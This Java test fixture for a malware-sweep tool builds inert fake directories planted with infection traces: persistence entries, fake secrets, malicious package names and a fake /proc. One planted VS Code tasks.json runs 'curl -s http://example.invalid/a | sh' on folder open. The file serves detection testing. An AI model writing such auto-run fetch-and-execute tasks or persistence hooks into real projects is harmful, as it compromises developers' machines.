package dev.bulwark.sweep;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;

/** Builds inert fake home and root trees for sweep tests. Nothing here is ever run. */
final class FakeTree {
  static final String NPM_TOKEN = "npm_PLANTEDSECRETVALUE0123456789";
  static final String ENV_SECRET = "PLANTED-ENV-SECRET-987";

  private FakeTree() {}

  static Path write(Path file, String text) throws IOException {
    Files.createDirectories(file.getParent());
    return Files.writeString(file, text, StandardCharsets.UTF_8);
  }

  /** Plants one of each trace the sweep knows about. */
  static void plantAll(Path home, Path root) throws IOException {
    write(home.resolve(".pyp/python.exe"), "not a real runtime");
    write(home.resolve(".n2/pay"), "inert");
    write(home.resolve(".npl"), "inert");
    write(home.resolve(".sysinfo"), "inert");
    write(home.resolve("Library/LaunchAgents/com.example.update.plist"),
        "<plist><dict><key>ProgramArguments</key><array>\n<string>/usr/local/bin/node</string>\n"
            + "<string>/Users/dev/.n2/main.js</string>\n</array></dict></plist>\n");
    write(root.resolve("var/spool/cron/crontabs/dev"),
        "# m h dom mon dow command\n*/5 * * * * python3 /tmp/.x/run.py\n");
    write(home.resolve(".config/autostart/updater.desktop"),
        "[Desktop Entry]\nType=Application\nExec=node /home/dev/.updater/u.js\n");
    write(home.resolve(".bashrc"), "alias ll='ls -l'\nnohup python3 ~/.npl >/dev/null 2>&1 &\n");
    write(root.resolve("tmp/p2.zip"), "inert");
    Files.write(home.resolve("NTUSER.DAT"), ("regf....Software\\Microsoft\\Windows\\CurrentVersion\\Run.."
        + "C:\\Users\\dev\\.pyp\\python.exe C:\\Users\\dev\\.npl").getBytes(StandardCharsets.UTF_16LE));
    plantProc(root);
    write(root.resolve("usr/lib/node_modules/react-plaid-sdk/package.json"),
        "{\"name\":\"react-plaid-sdk\",\"version\":\"1.0.0\"}");
    Files.createDirectories(root.resolve("usr/lib/python3.11/site-packages/chrome_stealth-0.1.0.dist-info"));
    write(home.resolve("work/app/.venv/pyvenv.cfg"), "home = /usr/bin\n");
    write(home.resolve(".nvm/versions/node/v20.11.0/lib/node_modules/@accordproject/concerto-analysis/package.json"),
        "{\"name\":\"@accordproject/concerto-analysis\",\"version\":\"3.24.1\"}");
    write(home.resolve(".npm/_cacache/index-v5/ab/cd/abcdef0123"), "0123abcd\t{\"key\":"
        + "\"make-fetch-happen:request-cache:http://127.0.0.1/axios/-/axios-1.14.1.tgz\",\"integrity\":\"x\"}\n");
    Files.createDirectories(home.resolve(".cache/yarn/v6/npm-plain-crypto-js-4.2.1-0a1b2c3d-integrity"));
    Files.createDirectories(home.resolve("work/app/.venv/lib/python3.12/site-packages/Chrome_Stealth-0.1.0.dist-info"));
    write(home.resolve(".config/Code/User/workspaceStorage/abc123/workspace.json"),
        "{\"folder\":\"" + home.resolve("proj").toUri() + "\"}");
    write(home.resolve("proj/.vscode/tasks.json"), "{\"version\":\"2.0.0\",\"tasks\":[{\"label\":\"init\","
        + "\"type\":\"shell\",\"command\":\"curl -s http://example.invalid/a | sh\","
        + "\"runOptions\":{\"runOn\":\"folderOpen\"}}]}");
  }

  /** A fake /proc with node talking to 127.0.0.1:1244 through socket inode 4242. */
  static void plantProc(Path root) throws IOException {
    write(root.resolve("proc/net/tcp"),
        "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n"
            + "   0: 0100007F:A1B2 0100007F:04DC 01 00000000:00000000 00:00000000 00000000  1000        0 4242 1 0000000000000000 20 4 30 10 -1\n"
            + "   1: 00000000:0016 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 999 1 0000000000000000 100 0 0 10 0\n");
    write(root.resolve("proc/net/tcp6"),
        "  sl  local_address                         remote_address                        st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n"
            + "   0: 0000000000000000FFFF00000100007F:B0B0 0000000000000000FFFF0000BBFBFAD8:04C8 01 00000000:00000000 00:00000000 00000000  1000        0 5151 1 0000000000000000 20 4 30 10 -1\n");
    write(root.resolve("proc/1234/cmdline"), "node\0/home/dev/.n2/main.js\0");
    // Booted 2026-11-20T00:00:00Z; the process started 360000 ticks (one hour) later.
    write(root.resolve("proc/stat"), "cpu  1 2 3 4\nbtime 1795132800\nprocesses 99\n");
    write(root.resolve("proc/1234/stat"), "1234 (node) S 1 1234 1234 0 -1 4194560 100 0 0 0 "
        + "5 2 0 0 20 0 11 0 360000 1000000 2000 18446744073709551615\n");
    Files.createDirectories(root.resolve("proc/1234/fd"));
    Files.createSymbolicLink(root.resolve("proc/1234/fd/3"), Path.of("socket:[4242]"));
    // What the process really is: node from the system, working in ~/.n2 (a known malware place).
    Files.createSymbolicLink(root.resolve("proc/1234/exe"), Path.of("/usr/bin/node"));
    Files.createSymbolicLink(root.resolve("proc/1234/cwd"), Path.of("/home/dev/.n2"));
  }

  /** Secrets whose existence (never value) must be reported. */
  static void plantSecrets(Path home) throws IOException {
    write(home.resolve(".npmrc"), "//127.0.0.1/:_authToken=" + NPM_TOKEN + "\n");
    write(home.resolve(".ssh/id_ed25519"), "inert");
    write(home.resolve(".ssh/id_ed25519.pub"), "inert");
    write(home.resolve(".config/google-chrome/Default/Login Data"), "inert");
    Files.createDirectories(home.resolve(
        ".config/google-chrome/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn"));
    write(home.resolve(".aws/credentials"), "[default]\naws_secret_access_key=" + ENV_SECRET + "\n");
    write(home.resolve("proj/.env"), "API_KEY=" + ENV_SECRET + "\n");
    write(home.resolve(".config/solana/id.json"), "[1,2,3]");
  }
}
